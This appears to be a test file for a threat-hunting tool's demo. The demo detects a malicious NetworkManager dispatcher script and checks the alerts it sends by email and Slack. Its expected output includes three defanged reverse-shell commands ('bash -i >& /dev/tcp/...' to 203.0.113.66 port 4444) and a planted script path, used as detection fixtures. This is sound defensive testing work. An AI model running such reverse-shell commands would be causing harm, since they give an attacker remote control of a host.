import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { describe, it } from 'node:test';
import { DEMO_FOLDER, DEMO_TABLE } from '../functions/demo/demo';
import type { BaselineEntry } from '../functions/core/baseline';
import { huntById } from '../functions/core/hunts';
import { renderPublishInput } from '../functions/core/render/publish-input';
import { CLI_PREFIX } from '../functions/core/render/triage-command';
import { newFindingsReport } from './support/reports';

const ROOT = new URL('..', import.meta.url).pathname;

/** A command line run by a shell from the checkout, as an analyst would paste it. */
const shell = (command: string) => spawnSync('bash', ['-c', command], { cwd: ROOT, encoding: 'utf8', timeout: 60_000 });

describe('npm run demo', () => {
  let out = '';

  it('learns quietly on night 1 and alerts exactly the attacker’s findings on night 2', () => {
    const run = spawnSync('npm', ['run', '--silent', 'demo'], { cwd: ROOT, encoding: 'utf8', timeout: 120_000 });
    assert.equal(run.status, 0, run.stderr);
    out = run.stdout;
    assert.match(out, /DEMO — recorded Elasticsearch responses/);
    const [night1, night2] = out.split('=== night-2').map((part) => part ?? '');
    const messages = (text: string) => [...text.matchAll(/\[email\] Subject: (.*)/g)].map((m) => m[1]);
    assert.deepEqual(messages(night1!), ['[nm-dispatcher-hunt] baseline initialised: 11 entries']);
    assert.deepEqual(messages(night2!), ['[nm-dispatcher-hunt] 6 new findings, high: script-run, script-child, script-write']);
    const email = night2!.split('[slack]')[0]!;
    const alerted = [...email.matchAll(/^ {2}(script|masked_command_line|process\.executable): (.*)$/gm)].map((m) => `${m[1]}: ${m[2]}`).sort();
    // As the email shows them: defanged, so that no mail client links the attacker's host or script name.
    assert.deepEqual(alerted, [
      "masked_command_line: bash -c 'bash -i >& /dev/tcp/203[.]0[.]113[.]66/4444 0>&1'",
      "masked_command_line: nohup setsid bash -c 'bash -i >& /dev/tcp/203[.]0[.]113[.]66/4444 0>&1'",
      "masked_command_line: setsid bash -c 'bash -i >& /dev/tcp/203[.]0[.]113[.]66/4444 0>&1'",
      'process.executable: /usr/bin/bash',
      'process.executable: /usr/bin/bash',
      'process.executable: /usr/bin/nohup',
      'process.executable: /usr/bin/sed',
      'process.executable: /usr/bin/setsid',
      'script: /etc/NetworkManager/dispatcher.d/panix-dispatcher[.]sh',
    ]);
    assert.equal((email.match(/severity: high \(reverse shell over \/dev\/tcp/g) ?? []).length, 3, 'the reverse shell is high in each child that carries it');
    assert.match(email, /why new: path never seen/);
    assert.match(email, /content sha256|hashes: c0ffee00/, 'the dropped script\'s content is listed with its write');
    assert.doesNotMatch(night2!, /99-vpn-routes.*\n\s+why new/, 'nothing the fleet already had is alerted');
    assert.match(out, /night 2 alerted 6 new findings/);
    assert.equal((out.match(/ alerted {2}/g) ?? []).length, 6, 'six alerted entries in the baseline table');
    assert.match(night2!, /\[slack\] next steps:\n {2}• /, 'the Slack card’s next steps are printed too');
    assert.ok(!out.includes('npx '), 'no command the demo prints goes through npx');
  });

  it('ends with commands that each run as printed from the checkout', () => {
    const commands = out.split('\n').filter((line) => line.startsWith('$ ')).map((line) => line.slice(2));
    assert.ok(commands.length >= 3, out.slice(-2_000));
    for (const command of commands) {
      assert.ok(command.startsWith(`${CLI_PREFIX} `), command);
      assert.doesNotMatch(command, /[<>]|…/, `complete, without placeholders: ${command}`);
      const result = shell(command);
      assert.equal(result.status, 0, `${command}\n${result.stderr}`);
    }
  });

  it('renders an alert whose commands, placeholders filled, run against the demo baseline with only the local-mode option added', () => {
    const listed = shell(`npm run -s hunt -- baseline list --status alerted --json --local ${DEMO_FOLDER}`);
    assert.equal(listed.status, 0, listed.stderr);
    const entries = JSON.parse(listed.stdout) as BaselineEntry[];
    assert.equal(entries.length, 6);
    // As the function renders it: its own table name and region in every command.
    const report = newFindingsReport(entries.map((entry) => ({ hunt: huntById(entry.huntId)!, entry, novelty: 'path never seen', republished: false, severity: 'medium' as const, indicators: [] })));
    const { email, https } = JSON.parse(renderPublishInput(report, { triage: { table: DEMO_TABLE, region: 'eu-west-1' } }).Message) as { email: string; https: string };
    const slack = (JSON.parse(https) as { content: { description: string; nextSteps: string[] } }).content;
    const decode = (text: string) => text.replace(/&lt;/g, '<').replace(/&gt;/g, '>').replace(/&amp;/g, '&');
    const printed = [email, decode(slack.description), ...slack.nextSteps.map(decode)].flatMap((text) => [...text.matchAll(/npm run hunt -- [^`\n]*?(?=`|\s{2,}\(|$)/gm)].map((m) => m[0].trim()));
    assert.ok(printed.length >= entries.length, printed.join('\n'));
    // One of each kind: commands that differ only in their fingerprint run alike (each costs a process start).
    const shape = (command: string) => command.replace(/\b[0-9a-f]{12,64}\b/g, 'FP');
    const commands = [...new Map(printed.map((command) => [shape(command), command])).values()];
    for (const command of commands) {
      assert.ok(command.includes(`--table ${DEMO_TABLE} --region eu-west-1`), command);
      const filled = command
        .replace('<why benign>', 'benign in the demo: reviewed by the test')
        .replace('<you>', 'demo-test')
        .replace('<fingerprint>', entries[0]!.fingerprint.slice(0, 12));
      assert.doesNotMatch(filled, /[<>]/, `every placeholder filled: ${filled}`);
      const result = shell(`${filled} --local ${DEMO_FOLDER}`);
      assert.equal(result.status, 0, `${filled}\n${result.stderr}`);
    }
  });
});
